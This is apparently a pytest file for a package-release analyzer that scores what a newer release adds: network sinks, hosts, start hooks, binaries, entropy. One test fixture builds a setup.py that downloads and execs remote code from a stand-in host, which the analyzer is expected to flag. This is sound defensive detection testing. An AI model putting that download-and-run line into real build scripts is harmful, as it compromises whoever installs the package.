"""What a release's files add: the first of its kind weighs, more of the same does not."""

from __future__ import annotations

import io
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.contents import contents_of
from analyzer.reader import read_artifact
from analyzer.releases import FINDING_ID, changes_since, compare_contents
from analyzer.static.result import Reach, Sink
from models.canonical import Digest
from models.contents import Contents, ContentsBaseline
from models.evidence import Severity
from tests.analyzer.archives import make_sdist

QUIET = Contents(
    sinks=("call network", "import process"),
    hosts=("docs.test",),
    hooks=("console_scripts demo",),
    requires=("six",),
    entropy_milli=4500,
    code_bytes=1000,
)


def older(contents: Contents = QUIET) -> ContentsBaseline:
    return ContentsBaseline(
        filename="demo-1.0.tar.gz",
        evidence_digest=Digest("sha256:" + "0" * 64),
        contents=contents,
    )


@pytest.mark.parametrize(
    ("changes", "severity", "what"),
    [
        ({}, None, ""),
        ({"requires": ("six", "seven")}, None, ""),
        ({"hosts": ("api.test", "docs.test")}, Severity.LOW, "new-host"),
        ({"hooks": ("console_scripts demo", "console_scripts more")}, Severity.LOW, "new-hook"),
        ({"binaries": ("demo/x.so",)}, Severity.LOW, "new-binary"),
        ({"sinks": (*QUIET.sinks, "call process")}, None, ""),
        ({"sinks": (*QUIET.sinks, "build process")}, None, ""),  # what it did on import before
        ({"sinks": (*QUIET.sinks, "build network")}, Severity.MEDIUM, "new-sink"),
        ({"sinks": (*QUIET.sinks, "import credentials")}, Severity.MEDIUM, "new-sink"),
        (
            {"sinks": (*QUIET.sinks, "build network"), "hosts": ("docs.test", "x.test")},
            Severity.HIGH,
            "new-sink",
        ),
        ({"hooks": (*QUIET.hooks, "start x.pth")}, Severity.MEDIUM, "new-start-hook"),
        (
            {"hooks": (*QUIET.hooks, "start x.pth"), "sinks": (*QUIET.sinks, "start network")},
            Severity.HIGH,
            "new-sink",
        ),
        ({"entropy_milli": 5950}, Severity.LOW, "new-entropy"),
        ({"entropy_milli": 5400}, None, ""),
        (
            {"entropy_milli": 5950, "sinks": (*QUIET.sinks, "import network")},
            Severity.HIGH,
            "new-sink",
        ),
    ],
)
def test_compare_contents__weighs_by_what_is_new(
    changes: dict[str, Any], severity: Severity | None, what: str
) -> None:
    compared = compare_contents(older(), replace(QUIET, **changes))
    told = [(found.id, found.severity, found.what) for found in compared.findings]
    assert told == ([(FINDING_ID, severity, what)] if severity else [])


def test_compare_contents__without_a_baseline_only_that_is_told() -> None:
    alone = compare_contents(None, QUIET)
    assert [(s.name, s.value) for s in alone.signals] == [("metadata.diff_known", False)]
    assert alone.changes is None
    assert compare_contents(older(), None).signals == ()


def test_changes_since__what_is_gone_is_no_change_and_sizes_are_in_percent() -> None:
    changes = changes_since(older(), replace(QUIET, hosts=(), code_bytes=2500))
    assert (changes.hosts, changes.code_percent) == ((), 250)
    assert changes_since(older(replace(QUIET, code_bytes=0)), QUIET).code_percent == 100


def test_changes_since__a_list_that_was_cut_makes_nothing_new() -> None:
    cut = older(replace(QUIET, hosts=("a.test", "b.test"), cut=True))
    assert changes_since(cut, replace(QUIET, hosts=("b.test", "c.test"))).hosts == ()


_PAIRS = st.sets(st.sampled_from([f"{reach} {sink}" for reach in Reach for sink in Sink]))


@given(_PAIRS, st.sets(st.sampled_from(["a.test", "b.test", "c.test"])))
def test_compare_contents__a_release_is_not_new_to_itself(sinks: set[str], hosts: set[str]) -> None:
    contents = Contents(sinks=tuple(sorted(sinks)), hosts=tuple(sorted(hosts)))
    compared = compare_contents(older(contents), contents)
    assert compared.findings == ()
    assert compared.changes is not None
    assert (compared.changes.sinks, compared.changes.hosts) == ((), ())


def test_compare_contents__a_setup_py_that_begins_to_download_and_run() -> None:
    quiet = "from setuptools import setup\nsetup(name='reenact-demo')\n"
    acts = (
        "import urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('http://stage.reenact.test/x').read())\n"
        "setup(name='reenact-demo')\n"
    )
    older_contents, newer_contents = (read_sdist({"setup.py": text}) for text in (quiet, acts))
    compared = compare_contents(older(older_contents), newer_contents)
    (found,) = compared.findings
    assert (found.severity, found.what) == (Severity.HIGH, "new-sink")
    assert compared.changes is not None
    assert "build network" in compared.changes.sinks


def read_sdist(files: dict[str, bytes | str]) -> Contents:
    data = make_sdist(files)
    name = "reenact_demo-1.0.tar.gz"
    report = read_artifact(io.BytesIO(data), filename=name, kind="sdist", size_bytes=len(data))
    contents = contents_of(report)
    assert contents is not None
    return contents
